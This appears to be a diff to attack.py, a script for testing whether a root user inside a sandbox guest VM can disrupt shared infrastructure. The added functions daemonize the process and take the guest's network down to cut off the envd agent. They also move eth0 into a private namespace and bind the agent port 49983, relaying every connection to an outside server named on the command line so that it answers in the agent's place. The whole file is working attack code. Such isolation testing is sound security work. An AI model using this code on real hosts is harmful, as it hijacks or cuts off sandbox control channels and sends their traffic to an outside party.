@@ -1,14 +1,19 @@
 """What root of a guest does to take from others what all share: attack.py NAME ARGUMENTS... Prints what it did."""
 
+import ctypes
+import os
 import random
 import socket
 import struct
+import subprocess
 import sys
 import threading
 import time
 
 GUEST, GATEWAY = "169.254.0.21", "169.254.0.22"
 MINE, THEIRS = bytes.fromhex("02fc00000005"), bytes.fromhex("02fc00000006")
+AGENT_PORT = 49983
+CLONE_NEWNET = 0x40000000
 
 
 def checksum(data):
@@ -101,6 +106,66 @@ def pending(address, name, count, mark):
         except OSError:
             pass
     print(answered)
+
+
+def detach():
+    """Goes on in a process that the caller does not wait for, after its answer has left the guest."""
+    if os.fork():
+        os._exit(0)
+    os.setsid()
+    if os.fork():
+        os._exit(0)
+    quiet = os.open(os.devnull, os.O_RDWR)
+    for stream in range(3):
+        os.dup2(quiet, stream)
+    time.sleep(1)
+
+
+def ip(*words):
+    subprocess.run(["ip", *words], check=True)
+
+
+def mute():
+    """Takes the network away, from envd as from everything else."""
+    detach()
+    ip("link", "set", "eth0", "down")
+
+
+def replace(address, port):
+    """Moves the network into a namespace where envd is not, and has a server of the internet answer in its place."""
+    detach()
+    ip("netns", "add", "own")
+    ip("link", "set", "eth0", "netns", "own")
+    for words in (["addr", "add", f"{GUEST}/30", "dev", "eth0"], ["link", "set", "lo", "up"],
+                  ["link", "set", "eth0", "up"], ["route", "add", "default", "via", GATEWAY]):
+        ip("-n", "own", *words)
+    with open("/run/netns/own") as own:
+        ctypes.CDLL(None).setns(own.fileno(), CLONE_NEWNET)
+    listener = socket.create_server((GUEST, AGENT_PORT), backlog=128)
+    while True:
+        caller, _ = listener.accept()
+        threading.Thread(target=relay, args=(caller, (address, int(port))), daemon=True).start()
+
+
+def relay(caller, server):
+    with caller, socket.create_connection(server) as answering:
+        there = threading.Thread(target=copy, args=(caller, answering), daemon=True)
+        there.start()
+        copy(answering, caller)
+        there.join()
+
+
+def copy(source, target):
+    try:
+        while data := source.recv(65536):
+            target.sendall(data)
+        target.shutdown(socket.SHUT_WR)
+    except OSError:
+        for end in (source, target):
+            try:
+                end.shutdown(socket.SHUT_RDWR)
+            except OSError:
+                pass
 
 
 globals()[sys.argv[1]](*sys.argv[2:])
